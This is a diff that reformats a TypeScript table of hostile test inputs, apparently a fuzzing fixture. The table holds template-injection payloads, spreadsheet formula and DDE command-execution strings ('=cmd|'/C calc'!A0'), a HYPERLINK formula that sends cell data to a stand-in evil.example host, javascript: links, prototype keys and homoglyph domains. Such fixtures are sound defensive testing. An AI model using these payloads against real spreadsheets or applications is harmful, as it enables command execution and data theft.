@@ -92,7 +92,7 @@ const KINDS: Readonly<Record<string, readonly string[]>> = {
     '{{7*7}}{{constructor.constructor("alert(1)")()}}',
     '<%= alert(1) %>',
     '#{7*7}',
-    '$& $1 $` $\' $$',
+    "$& $1 $` $' $$",
     '%s %d %n %00',
     '$PLACEHOLDER$ $1 $2',
   ],
@@ -111,10 +111,10 @@ const KINDS: Readonly<Record<string, readonly string[]>> = {
   ],
   formulas: [
     '=HYPERLINK("https://evil.example/?x="&A1;"ouvrir")',
-    '=cmd|\'/C calc\'!A0',
-    '+33+cmd|\'/C calc\'!A0',
-    '-2+3+cmd|\'/C calc\'!A0',
-    '@SUM(1+1)*cmd|\'/C calc\'!A0',
+    "=cmd|'/C calc'!A0",
+    "+33+cmd|'/C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
     '＝1+1',
     ';=1+1;"x',
     '"";"=1+1"',
@@ -135,7 +135,15 @@ const KINDS: Readonly<Record<string, readonly string[]>> = {
     '[lien](javascript:alert(1)) ![image](https://evil.example/x.png)',
     'solidaire-correction: e30=',
   ],
-  prototypes: ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'undefined', '[object Object]'],
+  prototypes: [
+    '__proto__',
+    'constructor',
+    'toString',
+    'hasOwnProperty',
+    'null',
+    'undefined',
+    '[object Object]',
+  ],
   scripts: [
     'раураӏ.com',
     'Fаcebook',
@@ -148,7 +156,13 @@ const KINDS: Readonly<Record<string, readonly string[]>> = {
     '𝕃𝕖𝕤 𝕒𝕞𝕚𝕤',
     '\uFDFA'.repeat(10),
   ],
-  long: ['mot '.repeat(2_000), 'a'.repeat(20_000), '<b>'.repeat(5_000), '"'.repeat(5_000), "l'".repeat(5_000)],
+  long: [
+    'mot '.repeat(2_000),
+    'a'.repeat(20_000),
+    '<b>'.repeat(5_000),
+    '"'.repeat(5_000),
+    "l'".repeat(5_000),
+  ],
 };
 
 /** Around a text: what ends the place where it stands, and what such a text most often stands in. */
